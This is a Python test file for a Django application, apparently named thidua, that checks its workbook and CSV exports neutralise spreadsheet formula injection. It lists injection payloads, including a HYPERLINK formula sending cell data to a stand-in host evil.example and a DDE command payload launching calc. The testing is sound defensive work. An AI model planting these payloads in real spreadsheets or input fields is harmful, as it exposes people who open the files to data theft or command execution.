"""No export lets a cell become a formula (issue #14, item 3).

Text beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written as text in every
workbook and CSV file thidua writes; a real number stays a number. Three parts:

(a) the engine (``thidua.documents.exports.put`` / ``put_row``, ``thidua.lib.sheets.csv_cell``) with
    hostile values, read back by openpyxl and in the sheet's XML;
(b) every module of thidua that writes a workbook or a CSV file is found by reading the code, and
    must write its cells only through the engine: no ``cell(value=…)``, no ``.value =``, no
    ``append`` on a sheet, no ``csv.writer`` whose rows do not go through ``csv_cell``;
(c) the exports an outsider can fill (an imported household name, a unit name, a conference's
    invitee, the import templates' prefilled values) run end to end with hostile values.
"""

from __future__ import annotations

import ast
import datetime
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from thidua.documents.exports import xlsx_bytes
from thidua.lib.sheets import FORMULA_STARTS, csv_cell, looks_like_formula

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "thidua"

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "#REF!",
)


def _cells(content: bytes) -> Iterator[tuple[str, object, str]]:
    """(sheet, value, data type) of every cell of every sheet of a workbook."""
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell.value, cell.data_type


def assert_no_formula(content: bytes) -> None:
    """No cell of the workbook is a formula, as openpyxl reads it and as the file's XML says."""
    formulas = [(sheet, value) for sheet, value, kind in _cells(content) if kind == "f"]
    assert formulas == []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


# (a) ------------------------------------------------------------------------------------------


def test_text_that_begins_like_a_formula_is_written_as_text_and_numbers_stay_numbers() -> None:
    content = xlsx_bytes(
        "=1+2",
        ["=A1", "Số"],
        [(value, number) for value, number in zip(HOSTILE, range(-4, 5), strict=True)],
        subtitle="@SUM(1)",
    )
    assert_no_formula(content)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    written = [sheet.cell(row=row, column=1) for row in range(4, 4 + len(HOSTILE))]
    # The text is kept exactly, marked as text (the quote prefix Excel gives text typed after an apostrophe).
    assert [cell.value for cell in written] == list(HOSTILE)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in written)
    assert sheet["A1"].value == "=1+2" and sheet["A2"].value == "@SUM(1)"
    numbers = [sheet.cell(row=row, column=2) for row in range(4, 4 + len(HOSTILE))]
    assert [cell.value for cell in numbers] == list(range(-4, 5))
    assert all(cell.data_type == "n" and not cell.quotePrefix for cell in numbers)


def test_a_csv_cell_that_begins_like_a_formula_gets_the_apostrophe_and_a_number_does_not() -> None:
    assert [csv_cell(value) for value in HOSTILE[:6]] == ["'" + value for value in HOSTILE[:6]]
    assert csv_cell("Hoàng Văn Thụ") == "Hoàng Văn Thụ" and csv_cell(-5) == -5 and csv_cell(2.5) == 2.5
    assert all(looks_like_formula(start + "x") for start in FORMULA_STARTS)


# (b) ------------------------------------------------------------------------------------------

ENGINE = {"thidua/documents/exports.py", "thidua/lib/sheets.py"}
# Files that are inputs thidua itself generates for its demo imports, never opened by an officer.
DEMO_INPUTS = {"thidua/demo/province.py", "thidua/demo/story.py"}


def _code_files() -> Iterator[Path]:
    for path in sorted(PACKAGE.rglob("*.py")):
        parts = path.relative_to(PACKAGE).parts
        if "tests" not in parts and "migrations" not in parts:
            yield path


def _writers() -> dict[str, ast.Module]:
    """Every module that writes a workbook (imports openpyxl) or a CSV file (calls csv.writer)."""
    found = {}
    for path in _code_files():
        source = path.read_text(encoding="utf-8")
        if "openpyxl" in source or "csv.writer" in source or "csv.DictWriter" in source:
            found[str(path.relative_to(ROOT))] = ast.parse(source)
    return found


def _sheet_names(tree: ast.Module) -> set[str]:
    """Names bound to a worksheet: ``x = book.active``, ``x = book.create_sheet(…)``, ``x = book[…]``."""
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and len(node.targets) == 1 and isinstance(node.targets[0], ast.Name):
            value = node.value
            if (
                (isinstance(value, ast.Attribute) and value.attr == "active")
                or (isinstance(value, ast.Call) and ast.unparse(value.func).endswith("create_sheet"))
                or (isinstance(value, ast.Subscript) and "book" in ast.unparse(value.value))
            ):
                names.add(node.targets[0].id)
    return names


def _raw_writes(path: str, tree: ast.Module) -> list[str]:
    sheets = _sheet_names(tree)
    found = []
    for node in ast.walk(tree):
        where = f"{path}:{getattr(node, 'lineno', 0)}"
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            method = node.func.attr
            receiver = ast.unparse(node.func.value)
            if method == "cell" and (any(k.arg == "value" for k in node.keywords) or len(node.args) > 2):
                found.append(f"{where} {receiver}.cell(value=…)")
            if method == "append" and receiver in sheets:
                found.append(f"{where} {receiver}.append(…)")
            constant = len(node.args) == 1 and isinstance(node.args[0], ast.Name) and node.args[0].id.isupper()
            escaped = constant or "csv_cell" in ast.unparse(node)
            if method in ("writerow", "writerows") and path not in DEMO_INPUTS and not escaped:
                found.append(f"{where} {receiver}.{method}(…) without csv_cell")
        if isinstance(node, ast.Assign) and any(
            isinstance(target, ast.Attribute) and target.attr == "value" for target in node.targets
        ):
            found.append(f"{where} .value = …")
    return found


def test_every_workbook_and_csv_file_thidua_writes_goes_through_the_engine() -> None:
    writers = _writers()
    # The discovery finds the known writers (so that it is not vacuous) …
    assert {
        "thidua/documents/exports.py",
        "thidua/events/documents.py",
        "thidua/units/imports/tables.py",
        "thidua/awards/management/commands/round.py",
    } <= set(writers)
    # … and none of them writes a cell but through ``put``, ``put_row`` or ``csv_cell``.
    raw = [write for path, tree in writers.items() if path not in ENGINE for write in _raw_writes(path, tree)]
    assert raw == []


def test_the_discovery_would_see_a_raw_write() -> None:
    tree = ast.parse(
        "sheet = book.active\nsheet.append(['=1'])\nsheet.cell(row=1, column=1, value='=1')\n"
        "sheet['A1'].value = '=1'\nwriter.writerow(['=1'])\n"
    )
    assert len(_raw_writes("x.py", tree)) == 4


# (c) ------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_an_imported_household_name_and_a_unit_name_stay_text_in_the_lists_exports(cast) -> None:
    from thidua.evaluations.models import HouseholdYear
    from thidua.people.models import Household
    from thidua.units.models import UnitVersion

    for number, name in enumerate(HOSTILE, start=1):
        household = Household.objects.create(code=f"=H{number}", head_name=name, address=name, area=cast.to_8a)
        HouseholdYear.objects.create(
            household=household, year=2012, area=cast.to_8a, registered_on=datetime.date(2012, 1, 5), votes_for=17
        )
    UnitVersion.objects.filter(unit=cast.to_8a).update(name="=cmd|' /C calc'!A0")
    client = Client()
    client.force_login(cast["ducxuan"])
    households = client.get(f"/evaluations/areas/{cast.to_8a.pk}/2012/", {"format": "xlsx"})
    assert households.status_code == 200
    assert_no_formula(households.content)
    values = {value for _, value, _ in _cells(households.content)}
    assert set(HOSTILE) <= values and 17 in values
    client.force_login(cast["backan"])
    tree = client.get("/units/tree/", {"root": cast.town.pk, "as_of": "31/12/2013", "format": "xlsx"})
    assert tree.status_code == 200
    assert_no_formula(tree.content)
    assert any("=cmd|" in str(value) for _, value, _ in _cells(tree.content))


def test_the_import_templates_prefill_and_lists_stay_text() -> None:
    from thidua.units.imports.tables import Column, Guide, template_workbook

    columns = [Column(key="code", vi="=Mã", en="Code", help_vi="-", help_en="+", example="=1+2")]
    content = template_workbook(
        sheet_name="Khu dân cư",
        columns=columns,
        choices={"code": [f"@{number}" for number in range(100)]},
        guide=Guide(title_vi="=A", title_en="+B", rules=[("-1", "@2")], example=[{"code": "=1+2"}]),
        prefill={"code": '=HYPERLINK("http://evil.example")'},
    )
    assert_no_formula(content)
    values = {value for _, value, _ in _cells(content)}
    assert {"=Mã", "=A", "+B", "-1", "@2", "=1+2", "@99", '=HYPERLINK("http://evil.example")'} <= values


@pytest.mark.django_db
def test_a_conference_invitee_named_like_a_formula_stays_text_in_the_attendance_workbook(cast) -> None:
    from django.utils import timezone

    from thidua.accounts.system import SYSTEM_ACTOR
    from thidua.events import services
    from thidua.events.documents import attendance_workbook

    conference = services.conference_create(
        organizer=cast.town,
        name="Hội nghị biểu dương",
        starts_at=timezone.make_aware(datetime.datetime(2014, 1, 24, 8, 0)),
        place="Hội trường",
        agenda=[],
        round=None,
        actor=SYSTEM_ACTOR,
    )
    for name in HOSTILE[:4]:
        services.guest_invite(conference=conference, full_name=name, representing="@SUM(1)", actor=SYSTEM_ACTOR)
    content = attendance_workbook(conference)
    assert_no_formula(content)
    assert set(HOSTILE[:4]) <= {value for _, value, _ in _cells(content)}
